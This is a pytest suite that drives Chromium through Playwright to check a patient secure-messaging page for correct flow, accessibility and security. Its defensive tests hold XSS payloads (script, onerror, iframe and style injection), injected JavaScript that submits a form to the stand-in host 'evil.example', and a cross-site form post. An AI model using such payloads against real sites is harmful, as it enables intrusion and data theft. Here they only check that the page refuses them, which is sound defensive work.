"""Secure pages in a real browser: the system's Chromium, driven by Playwright, on loopback."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from browsers import Visit
from compliant_sms import Messenger, Practice
from conftest import PERSON
from frameworks import MOUNT, PAGES, Framework
from secure_visits import DRUG, Make, Visitor, notice, with_pages
from test_send import waits

pytestmark = pytest.mark.usefixtures(waits.__name__)  # nobody sleeps here
# No host of another's stands in it, with which no text would leave.
HOSTILE = (
    f"{DRUG} <script>document.title='taken'</script>"
    '"><img src="/x.png" onerror="document.title=\'taken\'">'
    "</p></main><form action=/x><button>Open</button></form></textarea>"
    "<style>@import '/x.css'; main { display: none }</style>"
    "<iframe src=/x></iframe> & &lt;b&gt;"
)
PICTURE = Path(__file__).parents[1] / "docs" / "how-to" / "secure-message.png"


@pytest.fixture
def messenger(make_messenger: Make, practice: Practice) -> Messenger:
    return with_pages(make_messenger, practice)


@pytest.fixture
def ana(messenger: Messenger) -> Visitor:
    """Whoever holds the link of a notice that went out."""
    return notice(messenger)


@pytest.fixture(params=[each for each in PAGES if each.name != "starlette"], ids=lambda f: f.name)
def served(request: pytest.FixtureRequest, ana: Visitor) -> Iterator[str]:
    """Where the link leads, under each framework's server."""
    framework: Framework = request.param
    with framework.server(ana.messenger) as url:
        yield f"{url}{MOUNT}/{ana.token}"


@pytest.fixture
def flask_server(messenger: Messenger) -> Iterator[str]:
    """One server, for what does not depend on it."""
    with PAGES[-1].server(messenger) as url:
        yield f"{url}{MOUNT}"


Open = Callable[..., Visit]


def test_a_patient_reads_and_replies(served: str, ana: Visitor, open_link: Open) -> None:
    """By way of each framework: asked, refused, shown, replied to; nothing goes elsewhere."""
    visit = open_link(served)
    asked = visit.page.inner_text("main")
    visit.answer("3/15/1985")
    refused = visit.page.inner_text("main")
    visit.answer("3/14/1985")
    shown = visit.page.inner_text("main")
    visit.answer("Thank you!\nAna")
    sent = visit.page.inner_text("main")

    assert "lisinopril" not in asked + refused
    assert "You can try 4 more times." in refused
    assert DRUG in shown
    assert "Your reply was sent." in sent
    assert [t.body for t in ana.messenger.history(PERSON).received] == ["Thank you!\nAna"]
    assert ana.happened() == ["opened", "wrong_answer", "read", "replied"]
    assert visit.is_quiet(refusals=1)
    assert visit.page.context.cookies() == []


def test_hostile_words_stay_words(messenger: Messenger, flask_server: str, open_link: Open) -> None:
    """A message and a reply full of markup are shown as they were written; nothing runs."""
    ana = notice(messenger, "2", HOSTILE)
    visit = open_link(f"{flask_server}/{ana.token}")
    visit.answer("March 14, 1985")
    message = visit.page.inner_text("p.words")
    visit.answer(HOSTILE)
    echoed = visit.page.locator("p.words").all_inner_texts()

    assert message == HOSTILE
    assert echoed == [HOSTILE, HOSTILE]
    assert "taken" not in visit.page.title()
    assert not any("/x" in url.replace(ana.token, "") for url in visit.requests)
    assert visit.page.locator("img, script, iframe, form").count() == 1
    assert visit.page.get_by_role("button").all_inner_texts() == ["Send"]
    assert visit.is_quiet()


def test_what_a_script_would_do_is_refused(
    ana: Visitor, flask_server: str, open_link: Open
) -> None:
    """Though markup got in, the policy would stop it: no script, no picture, no frame, no call."""
    visit = open_link(f"{flask_server}/{ana.token}")
    answered: list[str] = []
    visit.page.on("requestfinished", lambda request: answered.append(request.url))
    sneak = """() => {
        for (const [tag, source] of [['script', '/x.js'], ['img', '/x.png'], ['iframe', '/x']]) {
            const made = document.createElement(tag); made.src = source;
            document.body.append(made);
        }
        const inline = document.createElement('script');
        inline.textContent = "document.title = 'taken'"; document.body.append(inline);
        return fetch('/x').then(() => 'went', () => 'refused');
    }"""
    called = visit.page.evaluate(sneak)
    before = len(visit.requests)
    visit.page.evaluate("""() => { const form = document.querySelector('form');
        form.action = 'https://evil.example/'; form.requestSubmit(); }""")
    visit.page.wait_for_timeout(0)

    assert called == "refused"
    assert "taken" not in visit.page.title()
    assert answered == []
    assert all("evil.example" not in url for url in visit.requests[before:])
    assert any("Content Security Policy" in complaint for complaint in visit.complaints)


def test_another_sites_form_changes_nothing(
    ana: Visitor, flask_server: str, open_link: Open
) -> None:
    """A page elsewhere that knows the link posts to it, and even knows a proof: refused."""
    from secure_visits import proof_in  # noqa: PLC0415

    link = f"{flask_server}/{ana.token}"
    proof = proof_in(ana.get())
    elsewhere = f"""<form method="post" action="{link}"><input name="step" value="answer">
        <input name="words" value="3/14/1985"><input name="proof" value="{proof}">
        <button>x</button></form>"""
    visit = open_link("about:blank")
    visit.another_site(elsewhere)

    assert visit.press().status == 403
    assert "lisinopril" not in visit.page.content()
    assert ana.happened() == ["opened"]


def test_a_page_cannot_be_framed(ana: Visitor, flask_server: str, open_link: Open) -> None:
    """Nobody lays something over it: the browser shows an error in its place."""
    assert open_link("about:blank").frames_nothing(f"{flask_server}/{ana.token}")


def test_the_keyboard_is_enough(ana: Visitor, flask_server: str, open_link: Open) -> None:
    """The field has the focus; Enter sends it; Tab leads to box and button, which are seen."""
    visit = open_link(f"{flask_server}/{ana.token}")
    keyboard = visit.page.keyboard

    def focused() -> str:
        return visit.page.evaluate("document.activeElement.tagName")  # type: ignore[no-any-return]

    visit.page.locator("#words:focus").wait_for()  # with the first frame, not with the page
    first = focused()
    keyboard.type("14 March 1985")
    with visit.page.expect_navigation():
        keyboard.press("Enter")
    keyboard.press("Tab")
    second = focused()
    keyboard.type("By keyboard")
    keyboard.press("Tab")
    third = focused()
    outline = visit.page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    with visit.page.expect_navigation():
        keyboard.press("Enter")

    assert (first, second, third) == ("INPUT", "TEXTAREA", "BUTTON")
    assert outline == "solid"
    assert "Your reply was sent." in visit.page.inner_text("main")
    assert [t.body for t in ana.messenger.history(PERSON).received] == ["By keyboard"]


def test_what_is_wrong_is_told_by_name(ana: Visitor, flask_server: str, open_link: Open) -> None:
    """To whoever hears the page: the field's name, its hints and its error; the title first."""
    visit = open_link(f"{flask_server}/{ana.token}")
    visit.answer("3/15/1985")
    box = visit.page.get_by_role("textbox", name="Date of birth")
    described = box.evaluate("""box => box.getAttribute('aria-describedby').split(' ')
        .map(id => document.getElementById(id).textContent).join(' ')""")

    assert "That is not what we have on record." in described
    assert box.get_attribute("aria-invalid") == "true"
    assert visit.page.title().startswith("Error: ")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_both_schemes_and_small_screens(
    ana: Visitor, flask_server: str, open_link: Open, scheme: str
) -> None:
    """Light and dark have colors of their own, and nothing is wider than a small phone."""
    visit = open_link(
        f"{flask_server}/{ana.token}",
        color_scheme=scheme,
        viewport={"width": 320, "height": 568},
    )
    visit.answer("3/14/1985")
    color = visit.page.evaluate("getComputedStyle(document.body).backgroundColor")
    wide = visit.page.evaluate("document.documentElement.scrollWidth")

    assert color == {"light": "rgb(244, 246, 248)", "dark": "rgb(20, 23, 26)"}[scheme]
    assert wide <= 320
    assert visit.is_quiet()


def test_going_back_shows_nothing_from_a_cache(
    ana: Visitor, flask_server: str, open_link: Open
) -> None:
    """Whoever takes the phone afterwards and opens the link is asked again."""
    visit = open_link(f"{flask_server}/{ana.token}")
    visit.answer("3/14/1985")
    visit.page.goto("about:blank")
    visit.page.goto(visit.url)

    assert "lisinopril" not in visit.page.content()
    assert visit.page.locator("#words").count() == 1


def test_the_picture_in_the_docs(
    ana: Visitor, flask_server: str, open_link: Open, tmp_path: Path
) -> None:
    """It is one of such a page, and small; ``COMPLIANT_SMS_PICTURE=1`` takes it anew."""
    import os  # noqa: PLC0415

    visit = open_link(f"{flask_server}/{ana.token}", viewport={"width": 480, "height": 800})
    visit.answer("3/14/1985")
    where = PICTURE if os.environ.get("COMPLIANT_SMS_PICTURE") else tmp_path / "picture.png"
    visit.page.screenshot(path=where)

    assert 1_000 < PICTURE.stat().st_size < 100_000
    assert PICTURE.read_bytes()[:8] == where.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
